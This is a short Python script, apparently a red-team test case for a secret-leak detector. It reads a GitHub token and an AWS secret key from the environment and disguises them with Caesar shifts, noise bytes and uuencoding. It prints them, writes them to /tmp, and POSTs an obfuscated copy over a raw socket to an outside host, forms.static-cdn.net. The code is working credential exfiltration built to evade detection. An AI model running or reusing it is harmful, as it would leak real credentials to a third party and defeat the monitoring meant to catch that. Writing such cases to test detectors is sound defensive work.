# A secret from the environment (no read to witness) in the shapes the
# session-18 red team listed as not found: a Caesar shift of 3 on its
# letters, a byte of noise after every four of it, uuencode (the uu
# codec, with its "begin" line). Each gave no finding before.
# 1. printed as ROT-3;
# 2. written into a file with noise every fifth byte;
# 3. printed to stderr uuencoded;
# 4. POSTed as ROT-11, reversed.
import codecs
import os
import socket
import sys

s = os.environ["GITHUB_TOKEN"]
a = os.environ["AWS_SECRET_ACCESS_KEY"]


def rot(t, n):
    return "".join(chr((ord(c) - b + n) % 26 + b) if c.isascii() and c.isalpha() else c
                   for c in t for b in [ord("a") if c.islower() else ord("A")])


print("motd:", rot(s, 3))
with open("/tmp/cache.bin", "w") as f:
    f.write("".join(c + ("#" if i % 4 == 3 else "") for i, c in enumerate(a)))
sys.stderr.write(codecs.encode(("k=" + s + "\n").encode(), "uu").decode())
body = rot(a, 11)[::-1].encode()
try:
    c = socket.create_connection(("forms.static-cdn.net", 80), timeout=5)
    c.sendall(b"POST /g HTTP/1.1\r\nHost: forms.static-cdn.net\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    c.recv(100)
    c.close()
except OSError as e:
    print("post failed:", e)
